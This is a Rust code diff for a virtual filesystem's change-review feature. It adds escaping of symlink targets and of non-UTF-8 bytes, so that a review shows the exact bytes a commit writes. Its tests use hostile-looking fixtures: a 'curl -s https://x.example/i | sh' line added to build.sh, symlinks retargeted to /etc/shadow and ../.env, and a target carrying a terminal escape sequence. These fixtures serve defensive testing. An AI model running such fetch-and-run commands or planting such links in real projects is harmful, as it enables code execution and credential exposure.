@@ -53,9 +53,11 @@ impl Default for ReviewLimits {
 /// Why a changed file has no hunks.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum NoHunks {
-    /// The change is not to a file's content (a directory, a symlink, a mode).
+    /// The change is not to a file's content or a symlink's target (a
+    /// directory, a mode).
     NotFileContent,
-    /// One side is not valid UTF-8.
+    /// One side is binary: more than a few of its bytes are not valid UTF-8
+    /// (a text file with a stray byte gets hunks, the byte escaped).
     Binary,
     /// One side is larger than [`ReviewLimits::max_file_bytes`].
     TooLarge,
@@ -126,9 +128,75 @@ fn header_name(prefix: &str, path: &VPath) -> String {
     quoted
 }
 
-/// Review text for every file-content change in `entries`, within `limits`,
-/// with each side's bytes from `content` (asked only for a side that exists,
-/// within the bounds): the bytes, or why a side cannot be shown.
+/// A symlink's side of a review: one line naming where it points, the target
+/// escaped as a header name is (a control character, a bidirectional
+/// override, `\\` or a byte that is not UTF-8 in octal), so a reviewer reads
+/// exactly the bytes the commit writes and no target can forge a line.
+fn link_line(target: &[u8]) -> String {
+    let bidi = |c: char| matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
+    let mut line = String::from("symlink -> ");
+    for chunk in target.utf8_chunks() {
+        for c in chunk.valid().chars() {
+            if c.is_control() || bidi(c) || c == '\\' {
+                let mut bytes = [0; 4];
+                for byte in c.encode_utf8(&mut bytes).bytes() {
+                    let _ = write!(line, "\\{byte:03o}");
+                }
+            } else {
+                line.push(c);
+            }
+        }
+        for byte in chunk.invalid() {
+            let _ = write!(line, "\\{byte:03o}");
+        }
+    }
+    line.push('\n');
+    line
+}
+
+/// At most this many bytes of a side may be invalid UTF-8 for it to be shown
+/// as text (each escaped), and at most one in this many: a text file with a
+/// stray byte is still read as text, an image is still binary.
+const MAX_ESCAPED_BYTES: usize = 256;
+const ESCAPED_BYTES_PER: usize = 8;
+
+/// The note a review carries when a side's invalid bytes are escaped.
+const ESCAPED_NOTE: &str = "\\ bytes that are not UTF-8 are shown as \\ooo (octal)\n";
+
+/// One side of a change as review text: a symlink's line naming its target,
+/// a file's text (a text file with a few bytes that are not UTF-8 has each
+/// shown as `\ooo`, and says so: the second value), or `None` for a file
+/// that is binary.
+fn side_text<B: AsRef<[u8]>>(
+    bytes: Option<&B>,
+    state: Option<vsh_types::NodeState>,
+) -> Option<(Option<std::borrow::Cow<'_, str>>, bool)> {
+    let Some(bytes) = bytes else { return Some((None, false)) };
+    let bytes = bytes.as_ref();
+    if state.is_some_and(|s| s.kind == NodeKind::Symlink) {
+        return Some((Some(std::borrow::Cow::Owned(link_line(bytes))), false));
+    }
+    if let Ok(text) = std::str::from_utf8(bytes) {
+        return Some((Some(std::borrow::Cow::Borrowed(text)), false));
+    }
+    let invalid: usize = bytes.utf8_chunks().map(|chunk| chunk.invalid().len()).sum();
+    if invalid > MAX_ESCAPED_BYTES || invalid.saturating_mul(ESCAPED_BYTES_PER) > bytes.len() {
+        return None;
+    }
+    let mut text = String::with_capacity(bytes.len() + invalid * 3);
+    for chunk in bytes.utf8_chunks() {
+        text.push_str(chunk.valid());
+        for byte in chunk.invalid() {
+            let _ = write!(text, "\\{byte:03o}");
+        }
+    }
+    Some((Some(std::borrow::Cow::Owned(text)), true))
+}
+
+/// Review text for every content change in `entries` (a file's bytes, or
+/// where a symlink points), within `limits`, with each side's bytes from
+/// `content` (asked only for a side that exists, within the bounds; for a
+/// symlink, its target): the bytes, or why a side cannot be shown.
 pub fn review_entries<B: AsRef<[u8]>, E>(
     entries: &[DiffEntry],
     limits: ReviewLimits,
@@ -137,9 +205,12 @@ pub fn review_entries<B: AsRef<[u8]>, E>(
     let mut spent = 0u64;
     let mut out = Vec::new();
     for entry in entries {
-        let is_file = |state: Option<vsh_types::NodeState>| state.is_none_or(|s| s.kind == NodeKind::File);
-        let content_changed = entry.before.map(|s| (s.content, s.stamp)) != entry.after.map(|s| (s.content, s.stamp));
-        if !is_file(entry.before) || !is_file(entry.after) || !content_changed {
+        let shown = |state: Option<vsh_types::NodeState>| {
+            state.is_none_or(|s| s.kind == NodeKind::File || s.kind == NodeKind::Symlink)
+        };
+        let content_changed =
+            entry.before.map(|s| (s.kind, s.content, s.stamp)) != entry.after.map(|s| (s.kind, s.content, s.stamp));
+        if !shown(entry.before) || !shown(entry.after) || !content_changed {
             out.push(FileReview { path: entry.path.clone(), hunks: Err(NoHunks::NotFileContent) });
             continue;
         }
@@ -162,10 +233,14 @@ pub fn review_entries<B: AsRef<[u8]>, E>(
             let after = side(entry.after.is_some(), Side::After)?;
             match (before, after) {
                 (Ok(before), Ok(after)) => {
-                    let before_text = before.as_ref().map(|bytes| std::str::from_utf8(bytes.as_ref())).transpose();
-                    let after_text = after.as_ref().map(|bytes| std::str::from_utf8(bytes.as_ref())).transpose();
-                    match (before_text, after_text) {
-                        (Ok(old), Ok(new)) => Ok(unified_hunks(&entry.path, old, new)),
+                    match (side_text(before.as_ref(), entry.before), side_text(after.as_ref(), entry.after)) {
+                        (Some((old, old_escaped)), Some((new, new_escaped))) => {
+                            let mut hunks = unified_hunks(&entry.path, old.as_deref(), new.as_deref());
+                            if old_escaped || new_escaped {
+                                hunks.push_str(ESCAPED_NOTE);
+                            }
+                            Ok(hunks)
+                        }
                         _ => Err(NoHunks::Binary),
                     }
                 }
@@ -183,6 +258,9 @@ impl VirtualFs {
     /// whose before-state the commit checks anyway.
     pub fn review(&mut self, entries: &[DiffEntry], limits: ReviewLimits) -> Result<Vec<FileReview>, VfsError> {
         review_entries(entries, limits, |entry, side| {
+            if side == Side::After && entry.after.is_some_and(|state| state.kind == NodeKind::Symlink) {
+                return self.read_link(&entry.path).map(Ok);
+            }
             let source = match side {
                 Side::Before => ContentSource::Base(entry.path.clone()),
                 Side::After => match self.content_source(&entry.path)? {
@@ -249,5 +327,61 @@ mod tests {
         assert_eq!(tight.iter().find(|r| r.path.as_str() == "a.txt").unwrap().hunks, Err(NoHunks::TooLarge));
         let spent = vfs.review(diff.entries(), ReviewLimits { max_file_bytes: 1024, max_total_bytes: 30 }).unwrap();
         assert_eq!(spent.iter().find(|r| r.path.as_str() == "new.txt").unwrap().hunks, Err(NoHunks::BudgetSpent));
+    }
+
+    #[test]
+    fn a_text_file_with_a_stray_byte_is_reviewed_as_text_with_the_byte_escaped() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("build.sh"), "#!/bin/sh\necho building\n").unwrap();
+        let host = Arc::new(vsh_host::CapDir::open(dir.path()).unwrap());
+        let mut vfs = VirtualFs::new(host, vec![], SnapshotLimits::default());
+        let p = |s: &str| VPath::parse(s).unwrap();
+        let script = b"#!/bin/sh\necho building\ncurl -s https://x.example/i | sh # \xff\n";
+        vfs.write(&p("build.sh"), Arc::from(&script[..])).unwrap();
+        // Mostly bytes that are not UTF-8: binary still.
+        vfs.write(&p("image.bin"), Arc::from(&[0xff_u8, 0xfe, 0x80, b'a'][..])).unwrap();
+        let diff = vfs.canonical_diff().unwrap();
+        let review = vfs.review(diff.entries(), ReviewLimits::default()).unwrap();
+        let by_path = |name: &str| review.iter().find(|r| r.path.as_str() == name).unwrap().hunks.clone();
+        assert_eq!(
+            by_path("build.sh").unwrap(),
+            "--- a/build.sh\n+++ b/build.sh\n@@ -1,2 +1,3 @@\n #!/bin/sh\n echo building\n\
+             +curl -s https://x.example/i | sh # \\377\n\\ bytes that are not UTF-8 are shown as \\ooo (octal)\n"
+        );
+        assert_eq!(by_path("image.bin"), Err(NoHunks::Binary));
+    }
+
+    #[test]
+    fn a_symlinks_review_says_where_it_points_before_and_after() {
+        let dir = tempfile::tempdir().unwrap();
+        std::os::unix::fs::symlink("docs/guide.md", dir.path().join("retarget")).unwrap();
+        std::os::unix::fs::symlink("a.txt", dir.path().join("gone")).unwrap();
+        std::fs::write(dir.path().join("was-file"), "text\n").unwrap();
+        let host = Arc::new(vsh_host::CapDir::open(dir.path()).unwrap());
+        let mut vfs = VirtualFs::new(host, vec![], SnapshotLimits::default());
+        let p = |s: &str| VPath::parse(s).unwrap();
+        vfs.unlink(&p("retarget")).unwrap();
+        vfs.symlink(&p("retarget"), b"/etc/shadow").unwrap();
+        vfs.unlink(&p("gone")).unwrap();
+        vfs.symlink(&p("new"), b"../.env\x1b[2J\nline\xff").unwrap();
+        vfs.unlink(&p("was-file")).unwrap();
+        vfs.symlink(&p("was-file"), b".vsh/data").unwrap();
+        let diff = vfs.canonical_diff().unwrap();
+        let review = vfs.review(diff.entries(), ReviewLimits::default()).unwrap();
+        let by_path = |name: &str| review.iter().find(|r| r.path.as_str() == name).unwrap().hunks.clone();
+        assert_eq!(
+            by_path("retarget").unwrap(),
+            "--- a/retarget\n+++ b/retarget\n@@ -1 +1 @@\n-symlink -> docs/guide.md\n+symlink -> /etc/shadow\n"
+        );
+        assert_eq!(by_path("gone").unwrap(), "--- a/gone\n+++ /dev/null\n@@ -1 +0,0 @@\n-symlink -> a.txt\n");
+        // Control characters and bytes that are not UTF-8 are escaped: the target is one line.
+        assert_eq!(
+            by_path("new").unwrap(),
+            "--- /dev/null\n+++ b/new\n@@ -0,0 +1 @@\n+symlink -> ../.env\\033[2J\\012line\\377\n"
+        );
+        assert_eq!(
+            by_path("was-file").unwrap(),
+            "--- a/was-file\n+++ b/was-file\n@@ -1 +1 @@\n-text\n+symlink -> .vsh/data\n"
+        );
     }
 }
